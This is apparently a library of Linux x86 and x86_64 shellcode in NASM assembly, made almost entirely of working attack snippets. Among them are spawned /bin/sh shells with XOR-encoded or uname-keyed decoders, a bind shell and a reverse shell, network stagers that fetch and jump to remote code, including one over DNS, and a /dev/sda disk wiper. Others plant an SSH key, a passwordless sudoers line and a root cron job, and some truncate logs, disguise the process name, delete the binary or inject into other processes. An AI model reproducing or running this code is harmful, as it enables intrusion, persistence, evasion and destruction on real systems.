; Linux: other ways into the system and to what is done to it: calls patched in place, disks, keys, logs, modules, other
; processes; decoders that the system's name, or a child, unlocks.

;= rcx_from_syscall 64 | linux x86_64 | execute /bin//sh
	push byte 39
	pop rax
	syscall
here:	lea rsi, [rcx + payload - here]
	push byte LENGTH64
	pop rcx
next:	xor byte [rsi + rcx - 1], 0x5a
	loop next
	jmp rsi
payload:	ENCODE64 c ^ 0x5a

;= to_32_bit 64 | linux x86 | execute /bin//sh
	lea rsi, [rel low]
	lea rdi, [rel stack]
	mov edi, 0x600000
	mov rsp, rdi
	push byte 0x23
	lea rax, [rel low]
	push rax
	retfq
low:
bits 32
	xor eax, eax
	cdq
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push ebx
	mov ecx, esp
	mov al, 11
	int 0x80
stack:

;= patched_call 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	inc byte [esi + door - here]
	xor eax, eax
	cdq
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push ebx
	mov ecx, esp
	mov al, 11
door:	db 0xcc, 0x80

;= stack_door_64 64 | linux x86_64 | execute /bin//sh
	xor esi, esi
	mul esi
	push rax
	mov rbx, '/bin//sh'
	push rbx
	push rsp
	pop rdi
	mov ecx, 0x91969ff1 ^ 0x9196909e
	xor ecx, 0x0000050f ^ 0x00000f6f
	mov al, 59
	push word 0x050e
	inc byte [rsp]
	jmp rsp

;= memfd_fexecve 32 | linux x86 | execute /proc/self/fd/3
	xor ecx, ecx
	push ecx
	mov ebx, esp
	inc ecx
	mov eax, 356
	int 0x80
	mov esi, eax
	; recv the program
	mov ebx, 0
	mov ecx, esp
	sub ecx, 0x400
	mov edx, 0x400
	mov eax, 3
	int 0x80
	mov edx, eax
	mov ebx, esi
	mov eax, 4
	int 0x80
	xor eax, eax
	push eax
	push dword 'fd/3'
	push dword 'elf/'
	push dword 'oc/s'
	push dword '//pr'
	mov ebx, esp
	push eax
	mov edx, esp
	push ebx
	mov ecx, esp
	mov al, 11
	int 0x80

;= wipe_disk 32 | linux x86 | write /dev/sda
	xor eax, eax
	push eax
	push dword '/sda'
	push dword '/dev'
	mov ebx, esp
	mov al, 5
	xor ecx, ecx
	inc ecx
	int 0x80
	mov ebx, eax
	mov ecx, esp
	xor edx, edx
	mov dh, 2
	push byte 4
	pop eax
	int 0x80
	jmp short $-10

;= authorized_keys 32 | linux x86 | write /root/.ssh/authorized_keys
	jmp short down
up:	pop ebx
	xor eax, eax
	mov [ebx + 26], al
	mov ecx, 0x441
	push byte 5
	pop eax
	mov edx, 0x180
	int 0x80
	xchg eax, ebx
	lea ecx, [eax + 27]
	call get
get:	pop ecx
	add ecx, key - get
	mov edx, keyend - key
	mov eax, 4
	int 0x80
	xor eax, eax
	inc eax
	int 0x80
down:	call up
	db '/root/.ssh/authorized_keysX'
key:	db 'ssh-ed25519 AAAAC3Nz kenbi@example.com', 10
keyend:

;= sudoers 64 | linux x86_64 | write /etc/sudoers
	jmp short down
up:	pop rdi
	xor eax, eax
	mov [rdi + 12], al
	mov al, 2
	mov esi, 0x401
	syscall
	mov edi, eax
	lea rsi, [rel text]
	mov edx, 28
	push 1
	pop rax
	syscall
	push 60
	pop rax
	syscall
down:	call up
	db '/etc/sudoersX'
text:	db 'kenbi ALL=(ALL) NOPASSWD: ALL', 10

;= crontab 32 | linux x86 | write /etc/cron.d/k
	call next
	db '/etc/cron.d/k', 0
next:	pop ebx
	mov eax, 8
	mov ecx, 0x1a4
	int 0x80
	mov ebx, eax
	call over
line:	db '* * * * * root /tmp/k', 10
over:	pop ecx
	mov edx, over - line
	mov eax, 4
	int 0x80
	mov eax, 6
	int 0x80

;= random_port_shell 32 | linux x86 | execute /bin//sh
	xor ebx, ebx
	mul ebx
	push ebx
	inc ebx
	push ebx
	push byte 2
	mov ecx, esp
	mov al, 102
	int 0x80
	xor esi, esi
	push esi
	push eax
	mov ecx, esp
	mov bl, 4
	mov al, 102
	int 0x80
	push esi
	push esi
	push dword [ecx]
	mov ecx, esp
	mov bl, 5
	mov al, 102
	int 0x80
	xchg eax, ebx
	pop ecx
dup:	mov al, 63
	int 0x80
	dec ecx
	jns dup
	push esi
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	xor ecx, ecx
	cdq
	mov al, 11
	int 0x80

;= fork_daemon_reverse 64 | linux x86_64 | connect 192.0.2.7
	push 57
	pop rax
	syscall
	test eax, eax
	jnz out
	push 112
	pop rax
	syscall
	push 41
	pop rax
	push 2
	pop rdi
	push 1
	pop rsi
	cdq
	syscall
	xchg edi, eax
	mov rcx, 0x070200c05c110002
	push rcx
	push rsp
	pop rsi
	push 16
	pop rdx
	push 42
	pop rax
	syscall
	push 3
	pop rsi
dup:	dec esi
	push 33
	pop rax
	syscall
	jne dup
	push 59
	pop rax
	cdq
	mov rbx, '/bin//sh'
	push rdx
	push rbx
	push rsp
	pop rdi
	push rdx
	push rdi
	push rsp
	pop rsi
	syscall
out:	push 60
	pop rax
	xor edi, edi
	syscall

;= ptrace_inject 64 | linux x86_64 | call ptrace
	mov edi, 16
	mov esi, 1234
	xor edx, edx
	xor r10d, r10d
	mov eax, 101
	syscall
	mov eax, 61
	mov edi, 1234
	xor esi, esi
	xor edx, edx
	syscall
	mov eax, 101
	mov edi, 4
	mov esi, 1234
	mov rdx, 0x400000
	mov r10, 0x9090909090909090
	syscall
	mov eax, 101
	mov edi, 17
	syscall

;= process_vm_writev 64 | linux x86_64 | call process_vm_writev
	mov edi, 1234
	lea rax, [rel text]
	push 8
	push rax
	mov rsi, rsp
	push 8
	push 0x400000
	mov r10, rsp
	push 1
	pop rdx
	push 1
	pop r8
	xor r9d, r9d
	mov eax, 311
	syscall
	mov eax, 60
	xor edi, edi
	syscall
text:	db 'kenbi!!!'

;= kexec 64 | linux x86_64 | call kexec
	xor edi, edi
	xor esi, esi
	xor edx, edx
	mov r10d, 0x3e0000
	mov eax, 246
	syscall
	mov eax, 169
	mov edi, 0xfee1dead
	mov esi, 0x28121969
	mov edx, 0x45584543
	syscall

;= mount_proc 32 | linux x86 | call mount
	xor eax, eax
	push eax
	push dword '/mnt'
	mov ecx, esp
	push eax
	push dword 'sda1'
	push dword 'dev/'
	push word '//'
	mov ebx, esp
	push eax
	push dword 'ext4'
	mov edx, esp
	xor esi, esi
	xor edi, edi
	mov al, 21
	int 0x80

;= mknod_disk 32 | linux x86 | call mknod
	xor eax, eax
	push eax
	push dword '/tmp'
	mov ebx, esp
	mov cx, 0x61b0
	mov dx, 0x801
	mov al, 14
	int 0x80

;= truncate_log 64 | linux x86_64 | call truncate
	xor esi, esi
	push rsi
	mov rax, '/log/log'
	push rax
	mov rax, '////var/'
	push rax
	mov rdi, rsp
	push 76
	pop rax
	syscall
	push 60
	pop rax
	syscall

;= prctl_name 64 | linux x86_64 | call prctl
	push 15
	pop rdi
	lea rsi, [rel name]
	mov eax, 157
	syscall
	mov eax, 34
	syscall
name:	db '[kworker/0:1]', 0

;= openat_cat 64 | linux x86_64 | call passwd
	xor edx, edx
	push rdx
	mov rbx, '//passwd'
	push rbx
	mov rbx, '/////etc'
	push rbx
	mov rsi, rsp
	push -100
	pop rdi
	mov eax, 257
	xor r10d, r10d
	syscall
	xchg edi, eax
	sub rsp, 0x200
	mov rsi, rsp
	mov dx, 0x200
	xor eax, eax
	syscall
	mov edx, eax
	push 1
	pop rdi
	mov eax, edi
	syscall

;= setgid_nopasswd_su 32 | linux x86 | execute /bin//su
	push byte 46
	pop eax
	xor ebx, ebx
	int 0x80
	xor eax, eax
	push eax
	push dword '//su'
	push dword '/bin'
	mov ebx, esp
	push eax
	push ebx
	mov ecx, esp
	cdq
	mov al, 11
	int 0x80

;= shell_script_heredoc 32 | linux x86 | execute /bin/sh -c
	jmp short down
up:	pop esi
	xor eax, eax
	mov [esi + 7], al
	mov [esi + 10], al
	mov [esi + end - text], al
	mov [esi + end - text + 1], esi
	lea ebx, [esi + 8]
	mov [esi + end - text + 5], ebx
	lea ebx, [esi + 11]
	mov [esi + end - text + 9], ebx
	mov [esi + end - text + 13], eax
	mov al, 11
	mov ebx, esi
	lea ecx, [esi + end - text + 1]
	xor edx, edx
	int 0x80
down:	call up
text:	db '/bin/shA-cAecho kenbi >/tmp/k; id'
end:	db 'ABBBBCCCCDDDDEEEE'

;= polled_multi_accept 64 | linux x86_64 | bind 4444
	push 41
	pop rax
	push 2
	pop rdi
	push 1
	pop rsi
	xor edx, edx
	syscall
	xchg rdi, rax
	push rdx
	mov dword [rsp], 0x5c110002
	mov rsi, rsp
	push 16
	pop rdx
	push 49
	pop rax
	syscall
	push 5
	pop rsi
	push 50
	pop rax
	syscall
more:	xor esi, esi
	xor edx, edx
	xor r10d, r10d
	mov eax, 288
	syscall
	mov ebx, eax
	push 57
	pop rax
	syscall
	test eax, eax
	jnz more
	mov edi, ebx
	push 2
	pop rsi
d:	push 33
	pop rax
	syscall
	dec esi
	jns d
	push 59
	pop rax
	cdq
	push rdx
	mov rbx, '/bin//sh'
	push rbx
	mov rdi, rsp
	xor esi, esi
	syscall

;= flood_udp 32 | linux x86 | connect 192.0.2.9
	push byte 2
	pop ebx
	push byte 2
	pop ecx
	xor edx, edx
	mov eax, 359
	int 0x80
	mov ebx, eax
	push dword 0x090200c0
	push word 0x3500
	push word 2
	mov edi, esp
	push byte 16
	pop ebp
more:	mov ecx, esp
	mov edx, 0x200
	xor esi, esi
	mov eax, 369
	int 0x80
	jmp short more

;= readlink_self_delete 64 | linux x86_64 | call readlink
	xor edx, edx
	push rdx
	mov rax, 'self/exe'
	push rax
	mov rax, '//proc//'
	push rax
	mov rdi, rsp
	sub rsp, 0x100
	mov rsi, rsp
	mov dl, 0xff
	push 89
	pop rax
	syscall
	mov rdi, rsi
	push 87
	pop rax
	syscall
	push 60
	pop rax
	syscall

;= ulimit_core 64 | linux x86_64 | call setrlimit
	push 0
	push 0
	mov rsi, rsp
	push 4
	pop rdi
	mov eax, 160
	syscall
	mov eax, 60
	syscall

;= recvfrom_stage 64 | linux x86_64 | connect 192.0.2.9
	push 41
	pop rax
	cdq
	push 2
	pop rdi
	push 1
	pop rsi
	syscall
	xchg rax, rdi
	mov rcx, 0x090200c05c110002
	push rcx
	mov rsi, rsp
	push 16
	pop rdx
	push 42
	pop rax
	syscall
	push 45
	pop rax
	sub rsp, 0x200
	mov rsi, rsp
	mov dh, 2
	xor r10d, r10d
	xor r8d, r8d
	xor r9d, r9d
	syscall
	jmp rsi

;= dns_tunnel 32 | linux x86 | connect 192.0.2.53
	push byte 17
	push byte 2
	push byte 2
	mov ecx, esp
	push byte 1
	pop ebx
	push byte 102
	pop eax
	int 0x80
	xchg esi, eax
	push dword 0x350200c0
	push dword 0x35000002
	mov ecx, esp
	push byte 16
	push ecx
	push esi
	mov ecx, esp
	push byte 3
	pop ebx
	push byte 102
	pop eax
	int 0x80
	call next
	db 0x12,0x34,1,0,0,1,0,0,0,0,0,0,1,'k',7,'example',3,'com',0,0,16,0,1
next:	pop ecx
	push byte 0
	push byte 31
	push ecx
	push esi
	mov ecx, esp
	push byte 9
	pop ebx
	push byte 102
	pop eax
	int 0x80
	push byte 0
	push dword 0x200
	lea edx, [esp - 0x400]
	push edx
	push esi
	mov ecx, esp
	push byte 10
	pop ebx
	push byte 102
	pop eax
	int 0x80
	lea edx, [edx + 43]
	jmp edx

;= uname_key 64 | linux x86_64 | execute /bin//sh
	sub rsp, 0x190
	mov rdi, rsp
	push 63
	pop rax
	syscall
	mov eax, [rsp]
	lea rsi, [rel payload]
	push LENGTH64 / 4
	pop rcx
next:	xor [rsi + rcx * 4 - 4], eax
	loop next
	jmp rsi
payload:
%assign i 0
%rep LENGTH64 / 4
%assign q 0
%assign k 4
%rep 4
%substr letter PAYLOAD64 i * 4 + k
%assign q (q << 8) | letter
%assign k k - 1
%endrep
	dd q ^ 'Linu'
%assign i i + 1
%endrep

;= uname_key_32 32 | linux x86 | execute /bin//sh
	sub esp, 0x190
	mov ebx, esp
	push byte 122
	pop eax
	int 0x80
	mov eax, [ebx]
	call here
here:	pop esi
	push byte LENGTH / 4
	pop ecx
next:	xor [esi + ecx * 4 + payload - here - 4], eax
	loop next
payload:	DOUBLES c ^ 'Linu'

;= no_capitals 32 | linux x86 | execute /bin//sh
; few bytes: capitals alone ('P' and 'S' of pushes)
	mov cx, 0xffff
	jmp short down
up:	pop esi
	lea edi, [esi + table_end - table]
	push edi
next:	mov al, ':'
	repne scasb
	lodsb
	test al, al
	jz done
	sub [edi - 1], al
	jmp short next
done:	ret
down:	call up
table:
%assign j 0
%rep LENGTH
FROM j
%if (c >= 'A' && c <= 'Z')
	db (':' - c) & 0xff
%endif
%assign j j + 1
%endrep
	db 0
table_end:
%assign j 0
%rep LENGTH
FROM j
%if (c >= 'A' && c <= 'Z')
	db ':'
%else
	db c
%endif
%assign j j + 1
%endrep
	db ':'

;= fork_then_decode 32 | linux x86 | execute /bin//sh
	push byte 2
	pop eax
	int 0x80
	test eax, eax
	jnz parent
	call here
here:	pop esi
	add esi, payload - here
	push byte LENGTH
	pop ecx
next:	xor byte [esi + ecx - 1], 0x17
	loop next
	jmp esi
parent:	push byte 1
	pop eax
	int 0x80
payload:	ENCODE c ^ 0x17

;= bpf_load 64 | linux x86_64 | call bpf
	lea rax, [rel license]
	push 0
	push 0
	push rax
	lea rax, [rel program]
	push rax
	mov rax, 0x0000000200000001
	push rax
	mov rsi, rsp
	mov edi, 5
	mov edx, 40
	mov eax, 321
	syscall
	mov edi, eax
	mov eax, 60
	syscall
program:	dq 0xb7, 0x95
license:	db 'GPL', 0

;= io_uring 64 | linux x86_64 | call io_uring_setup
	sub rsp, 0x100
	mov rdi, rsp
	xor eax, eax
	mov ecx, 15
	rep stosq
	mov rsi, rsp
	mov edi, 8
	mov eax, 425
	syscall
	mov edi, eax
	mov esi, 1
	mov edx, 1
	mov r10d, 1
	mov eax, 426
	syscall
